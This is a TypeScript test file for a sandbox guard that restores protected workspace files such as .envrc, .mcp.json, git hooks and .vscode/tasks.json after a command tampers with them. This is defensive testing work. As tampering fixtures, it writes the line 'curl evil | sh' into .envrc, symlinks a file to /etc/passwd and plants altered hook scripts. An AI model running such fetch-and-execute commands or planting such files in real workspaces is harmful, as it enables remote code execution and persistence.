import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { snapshotProtected } from '../../../protocol/sandbox/guard.js';
import { tempDir } from '../../helpers/tmp.js';

const base = tempDir('gmc-guard-');
let n = 0;
function workspace(): string {
  const root = join(base, `ws${++n}`);
  mkdirSync(root);
  return root;
}
/** Names in `dir` that start with `name.sandbox-rejected-`. */
const asides = (dir: string, name: string) => readdirSync(dir).filter((f) => f.startsWith(`${name}.sandbox-rejected-`));

describe('snapshotProtected', () => {
  it('nothing changed: no notes, nothing moved', () => {
    const root = workspace();
    writeFileSync(join(root, '.mcp.json'), '{}');
    const snap = snapshotProtected(root, [join(root, '.mcp.json'), join(root, '.envrc')]);
    expect(snap.restore()).toEqual([]);
    expect(readdirSync(root)).toEqual(['.mcp.json']);
  });

  it('an edited file is put back; the command version is kept aside, never deleted', () => {
    const root = workspace();
    const f = join(root, '.mcp.json');
    writeFileSync(f, '{"mine":1}');
    const snap = snapshotProtected(root, [f]);
    writeFileSync(f, '{"evil":1}');
    const notes = snap.restore();
    expect(readFileSync(f, 'utf8')).toBe('{"mine":1}');
    const [aside] = asides(root, '.mcp.json');
    expect(readFileSync(join(root, aside!), 'utf8')).toBe('{"evil":1}');
    expect(notes).toEqual([
      `sandbox: .mcp.json was changed by the command and has been restored (the command's version is at ${aside})`,
    ]);
  });

  it('a mode change (made executable) counts as a change', () => {
    const root = workspace();
    const f = join(root, '.bashrc');
    writeFileSync(f, 'x', { mode: 0o644 });
    const snap = snapshotProtected(root, [f]);
    chmodSync(f, 0o755);
    expect(snap.restore()).toHaveLength(1);
    expect(statSync(f).mode & 0o777).toBe(0o644);
  });

  it('a protected path that did not exist and was created is moved aside, leaving it missing', () => {
    const root = workspace();
    const f = join(root, '.envrc');
    const snap = snapshotProtected(root, [f]);
    writeFileSync(f, 'curl evil | sh');
    expect(snap.restore()).toHaveLength(1);
    expect(existsSync(f)).toBe(false);
    expect(asides(root, '.envrc')).toHaveLength(1);
  });

  it('a missing .git may become a directory (git init), but not a file', () => {
    const root = workspace();
    const git = join(root, '.git');
    const snap = snapshotProtected(root, [git], [git]);
    mkdirSync(join(git, 'hooks'), { recursive: true });
    writeFileSync(join(git, 'hooks', 'pre-commit'), 'anything');
    expect(snap.restore()).toEqual([]);
    expect(existsSync(join(git, 'hooks', 'pre-commit'))).toBe(true);

    const root2 = workspace();
    const git2 = join(root2, '.git');
    const snap2 = snapshotProtected(root2, [git2], [git2]);
    writeFileSync(git2, 'gitdir: /elsewhere');
    expect(snap2.restore()).toHaveLength(1);
    expect(existsSync(git2)).toBe(false);
  });

  it('a hooks folder renamed away and recreated is noticed and rebuilt with its files and modes', () => {
    const root = workspace();
    const hooks = join(root, '.git', 'hooks');
    mkdirSync(hooks, { recursive: true });
    writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\ntrue\n', { mode: 0o755 });
    const snap = snapshotProtected(root, [hooks]);
    renameSync(hooks, join(root, 'moved'));
    mkdirSync(hooks);
    writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\nevil\n', { mode: 0o755 });
    expect(snap.restore()).toHaveLength(1);
    expect(readFileSync(join(hooks, 'pre-commit'), 'utf8')).toBe('#!/bin/sh\ntrue\n');
    expect(statSync(join(hooks, 'pre-commit')).mode & 0o777).toBe(0o755);
    expect(asides(join(root, '.git'), 'hooks')).toHaveLength(1);
  });

  it('a file replaced by a symlink is noticed (kind changed) and put back', () => {
    const root = workspace();
    const f = join(root, '.gitmodules');
    writeFileSync(f, 'orig');
    const snap = snapshotProtected(root, [f]);
    rmSync(f);
    symlinkSync('/etc/passwd', f);
    expect(snap.restore()).toHaveLength(1);
    expect(readFileSync(f, 'utf8')).toBe('orig');
  });

  it('a parent folder replaced by a file: the blocking file is moved aside and the path rebuilt', () => {
    const root = workspace();
    const tasks = join(root, '.vscode', 'tasks.json');
    mkdirSync(join(root, '.vscode'));
    writeFileSync(tasks, '{"tasks":[]}');
    const snap = snapshotProtected(root, [tasks]);
    rmSync(join(root, '.vscode'), { recursive: true });
    writeFileSync(join(root, '.vscode'), 'a file now');
    const notes = snap.restore();
    expect(notes[0]).toMatch(/^sandbox: \.vscode\/tasks\.json was changed by the command and has been restored/);
    expect(readFileSync(tasks, 'utf8')).toBe('{"tasks":[]}');
    expect(readFileSync(join(root, asides(root, '.vscode')[0]!), 'utf8')).toBe('a file now');
  });
});
